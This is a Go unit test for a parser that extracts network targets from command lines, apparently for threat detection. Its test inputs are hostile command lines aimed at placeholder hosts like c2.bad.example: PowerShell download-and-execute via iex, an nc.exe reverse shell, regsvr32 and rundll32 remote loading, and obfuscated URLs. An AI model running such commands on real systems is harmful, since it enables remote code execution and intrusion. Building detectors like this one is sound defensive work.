package decode_test

import (
	"fmt"
	"slices"
	"testing"

	"github.com/taskroot/taskroot/loader/decode"
)

func TestTargets(t *testing.T) {
	for _, c := range []struct {
		name, in string
		want     []string // kind host port URL
	}{
		{"OKURL", `powershell iwr https://c2.bad.example:8443/a?b=c -OutFile x`, []string{"url c2.bad.example 8443 https://c2.bad.example:8443/a?b=c"}},
		{"OKInCode", download, []string{"url c2.bad.example 0 http://c2.bad.example/a"}},
		{"OKEncoded", "powershell -enc " + enc(download), []string{"url c2.bad.example 0 http://c2.bad.example/a"}},
		{"OKCaseAndDot", `mshta HTTP://C2.Bad.Example./x.hta`, []string{"url c2.bad.example 0 HTTP://C2.Bad.Example./x.hta"}},
		{"OKIDN", `mshta http://bücher.example/x`, []string{"url xn--bcher-kva.example 0 http://bücher.example/x"}},
		{"OKUser", `ftp://u:p@ftp.bad.example:2121/x`, []string{"url ftp.bad.example 2121 ftp://u:p@ftp.bad.example:2121/x"}},
		{"OKUserHidesHost", `http://www.good.example@bad.example/`, []string{"url bad.example 0 http://www.good.example@bad.example/"}},
		{"OKIPv6", `curl http://[2001:DB8::1]:8080/x`, []string{"url 2001:db8::1 8080 http://[2001:DB8::1]:8080/x"}},
		{"OKIPAsNumber", `curl http://3405803777/x`, []string{"url 203.0.113.1 0 http://3405803777/x"}},
		{"OKIPAsHex", `curl http://0xcb.0x00.0x71.1/x`, []string{"url 203.0.113.1 0 http://0xcb.0x00.0x71.1/x"}},
		{"OKTwo", `curl https://a.example/1 -o x & curl https://b.example/2`, []string{"url a.example 0 https://a.example/1", "url b.example 0 https://b.example/2"}},
		{"OKScriptlet", `regsvr32 /s /n /u /i:http://a.example/f.sct scrobj.dll`, []string{"url a.example 0 http://a.example/f.sct"}},
		{"OKShare", `rundll32 \\files.bad.example\pub\x.dll,Run`, []string{`url files.bad.example 0 \\files.bad.example\pub\x.dll,Run`}},
		{"OKWebDAV", `rundll32.exe "\\dav.bad.example@SSL@8443\DavWWWRoot\x.dll",Run`, []string{`url dav.bad.example 8443 \\dav.bad.example@SSL@8443\DavWWWRoot\x.dll`}},
		{"OKWebDAVPort", `net use z: \\dav.bad.example@80\share`, []string{`url dav.bad.example 80 \\dav.bad.example@80\share`}},
		{"OKShareIP", `cmd /c \\192.0.2.7\c$\x.exe`, []string{`url 192.0.2.7 0 \\192.0.2.7\c$\x.exe`}},
		{"OKBareIP", `ping -n 3 192.0.2.7`, []string{"ip 192.0.2.7 0 "}},
		{"OKIPPort", `x.exe -s 192.0.2.7:4444`, []string{"ip 192.0.2.7 4444 "}},
		{"OKConnect", `plink CONNECT proxy.bad.example:3128`, []string{"host proxy.bad.example 3128 "}},
		{"OKProxy", `curl --proxy proxy.corp.example:8080 https://a.example/`, []string{"url a.example 0 https://a.example/", "proxy proxy.corp.example 8080 "}},
		{"OKProxyShort", `curl -x 192.0.2.9:3128 https://a.example/`, []string{"url a.example 0 https://a.example/", "proxy 192.0.2.9 3128 "}},
		{"OKProxyServer", `chrome.exe --proxy-server=p.example:3128 x`, []string{"proxy p.example 3128 "}},
		{"OKProxyURL", `powershell iwr https://a.example/x -Proxy 'http://p.example:3128'`, []string{"url a.example 0 https://a.example/x", "proxy p.example 3128 http://p.example:3128"}},
		{"OKWebProxy", `powershell $w.Proxy=New-Object Net.WebProxy("p.example:3128")`, []string{"proxy p.example 3128 "}},
		{"OKPortProxy", `netsh interface portproxy add v4tov4 listenport=80 connectaddress=a.example connectport=443`, []string{"host a.example 443 "}},
		{"OKTCPClient", `powershell $c=New-Object Net.Sockets.TCPClient('c2.bad.example',4444)`, []string{"host c2.bad.example 4444 "}},
		{"OKNoScheme", `powershell iwr -useb c2.bad.example/x.ps1 | iex`, []string{"host c2.bad.example 0 "}},
		{"OKCurlNoScheme", `curl -o x.exe -H "a: b" c2.bad.example/x`, []string{"host c2.bad.example 0 "}},
		{"OKNcat", `nc.exe -e cmd.exe c2.bad.example 4444`, []string{"host c2.bad.example 4444 "}},
		{"OKSSH", `ssh -N -R 8080:localhost:80 root@c2.bad.example`, []string{"host c2.bad.example 0 "}},
		{"OKSchemeInPieces", `powershell ('ht'+'tp://c2.bad.example/'+'a')`, []string{"url c2.bad.example 0 http://c2.bad.example/a"}},
		{"OKNothing", `svchost.exe -k netsvcs -p -s Schedule`, nil},
		{"OKVersion", `setup.exe /version 10.1.2.3 --ver=4.0.30319.1 FileVersion: 6.1.7601.17514`, nil},
		{"OKAssembly", `x "System.Data, Version=4.0.0.0, Culture=neutral"`, nil},
		{"OKVersionInPath", `"C:\Program Files (x86)\Microsoft\EdgeUpdate\1.3.147.37\x.exe" C:\Windows\Microsoft.NET\Framework64\v4.0.30319\y`, nil},
		{"OKVersionInName", `msiexec /i app-1.2.3.4.msi b_1.2.3.4 v1.2.3.4 1.2.3.4-beta 1.2.3.4.5`, nil},
		{"OKMask", `route add 10.0.0.0 mask 255.255.255.0`, nil},
		{"OKFiles", `powershell System.Net.WebClient a.exe b.ps1 Microsoft.PowerShell.Core Get.Thing`, nil},
		{"OKNamespace", `x xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task" xmlns:a='http://x.example/ns' http://www.w3.org/2001/XMLSchema`, nil},
		{"OKVariable", `powershell iwr http://$h/x http://%COMPUTERNAME%/y \\$env:x\y`, nil},
		{"OKDevicePaths", `x \\.\pipe\a \\?\C:\b //comment/x C:\\Windows\\System32`, nil},
		{"OKTooBig", `x 300.1.1.1 1.2.3.999 http://300.1.1.1/`, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			for _, x := range decode.CommandLine(c.in).Targets {
				got = append(got, fmt.Sprint(x.Kind, " ", x.Host, " ", x.Port, " ", x.URL))
			}
			if !slices.Equal(got, c.want) {
				t.Errorf("%s\n got %q\nwant %q", c.in, got, c.want)
			}
		})
	}
}
